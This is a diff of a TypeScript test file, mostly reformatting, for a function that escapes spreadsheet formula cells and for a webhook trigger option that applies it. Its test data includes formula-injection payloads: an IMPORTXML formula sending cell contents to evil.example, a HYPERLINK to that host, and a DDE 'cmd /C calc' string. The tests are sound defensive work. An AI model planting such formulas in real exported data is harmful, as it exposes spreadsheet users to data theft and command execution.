@@ -14,7 +14,7 @@ describe('escapeFormulaCell', () => {
 		'=IMPORTXML("https://evil.example/?"&A1, "//a")',
 		'=1+1',
 		'+SUM(A1:A9)',
-		'-2+3+cmd|\' /C calc\'!A0',
+		"-2+3+cmd|' /C calc'!A0",
 		'@SUM(1)',
 		'\t=1',
 		'\r=1',
@@ -26,12 +26,20 @@ describe('escapeFormulaCell', () => {
 		expect(escapeFormulaCell(value)).toBe(`'${value}`);
 	});
 
-	it.each(['+34612345678', '+34 612 345 678', '+1 (555) 123-4567', '-12.5', '-1,5', '0', 'John', ' =1', "'=1", ''])(
-		'leaves %j as it is',
-		(value) => {
-			expect(escapeFormulaCell(value)).toBe(value);
-		},
-	);
+	it.each([
+		'+34612345678',
+		'+34 612 345 678',
+		'+1 (555) 123-4567',
+		'-12.5',
+		'-1,5',
+		'0',
+		'John',
+		' =1',
+		"'=1",
+		'',
+	])('leaves %j as it is', (value) => {
+		expect(escapeFormulaCell(value)).toBe(value);
+	});
 
 	it.each([12, -3, true, null])('leaves the non-text value %p as it is', (value) => {
 		expect(escapeFormulaCell(value)).toBe(value);
@@ -42,7 +50,11 @@ describe('the option in the trigger', () => {
 	const hostile = () => ({
 		...widget(),
 		customer_name: '=IMPORTXML("https://evil.example/?"&A1, "//a")',
-		extracted_variables: { summary: '@SUM(1)', budget: -45, note: { text: '+HYPERLINK("https://evil.example")' } },
+		extracted_variables: {
+			summary: '@SUM(1)',
+			budget: -45,
+			note: { text: '+HYPERLINK("https://evil.example")' },
+		},
 	});
 	const flatRow = async (options: IDataObject, body: IDataObject = hostile()) => {
 		const { result } = await runWebhook({ body, parameters: { outputShape: 'flatRow', options } });
@@ -59,17 +71,25 @@ describe('the option in the trigger', () => {
 	});
 
 	it('keeps phone numbers as they are', async () => {
-		expect(await flatRow({}, whatsapp())).toMatchObject({ customer_phone: '+34612345678', sender_phone_number: '+34910000000' });
+		expect(await flatRow({}, whatsapp())).toMatchObject({
+			customer_phone: '+34612345678',
+			sender_phone_number: '+34910000000',
+		});
 	});
 
 	it('can be switched off: the values as sent', async () => {
-		expect(await flatRow({ escapeFormulas: false })).toMatchObject({ customer_name: hostile().customer_name, summary: '@SUM(1)' });
+		expect(await flatRow({ escapeFormulas: false })).toMatchObject({
+			customer_name: hostile().customer_name,
+			summary: '@SUM(1)',
+		});
 	});
 
 	it('leaves the other shapes as sent', async () => {
 		for (const outputShape of ['conversation', 'messages']) {
 			const { result } = await runWebhook({ body: hostile(), parameters: { outputShape } });
-			expect((result.workflowData as INodeExecutionData[][])[0][0].json.customer_name).toBe(hostile().customer_name);
+			expect((result.workflowData as INodeExecutionData[][])[0][0].json.customer_name).toBe(
+				hostile().customer_name,
+			);
 		}
 	});
 });
